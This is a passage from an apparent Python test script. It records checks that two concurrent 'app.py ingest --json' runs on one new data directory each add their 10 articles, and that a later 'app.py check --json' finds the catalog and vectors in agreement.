            f"exit {run.returncode}: {json.dumps({k: found.get(k) for k in ('ok', 'passages', 'vectors', 'missing', 'orphaned')})}"

    record("two `app.py ingest --json` subprocesses at once on one new data dir (hash embedding), 10 articles each",
           "both exit 0, each adds its 10", both_ingest)
    record("`app.py check --json` on that data dir afterwards", "exit 0, catalog and vectors agree id for id", check)
    record.assert_held()
